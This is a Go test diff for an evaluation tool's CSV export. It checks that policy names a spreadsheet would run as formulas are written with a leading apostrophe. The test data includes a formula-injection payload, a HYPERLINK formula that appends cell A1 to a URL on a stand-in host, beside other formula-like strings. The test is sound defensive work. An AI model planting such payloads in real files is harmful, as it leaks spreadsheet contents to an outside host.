@@ -638,3 +638,29 @@ func TestEvalOneGameHasNoInterval(t *testing.T) {
 		t.Errorf("read back: %v, %v", back.Policies, err)
 	}
 }
+
+// TestEvalCSVDefusesFormulas: a policy's name in --csv that a spreadsheet
+// would run as a formula (a remote agent names itself) is written with a
+// leading apostrophe; numbers, negative ones too, are written as they are.
+func TestEvalCSVDefusesFormulas(t *testing.T) {
+	rep := evalReport{Schema: evalSchema, Options: env.DefaultOptions(), Policies: []policySummary{
+		{Policy: `=HYPERLINK("http://x.example/?"&A1,"click") (remote)`, Games: 1},
+		{Policy: "-2+3", Games: 1}, {Policy: "@SUM(A1)", Games: 1}, {Policy: "greedy", Games: 1, Score: -1.5},
+	}}
+	var out bytes.Buffer
+	if err := writeEval(&out, rep, evalOptions{out: outputFlags{csv: true}}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil || len(rows) != 5 {
+		t.Fatalf("CSV %q: %v", rows, err)
+	}
+	for i, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"click") (remote)`, "'-2+3", "'@SUM(A1)", "greedy"} {
+		if rows[i+1][2] != want {
+			t.Errorf("row %d: policy %q, want %q", i+1, rows[i+1][2], want)
+		}
+	}
+	if rows[4][8] != "-1.5000" {
+		t.Errorf("a negative mean score written %q", rows[4][8])
+	}
+}
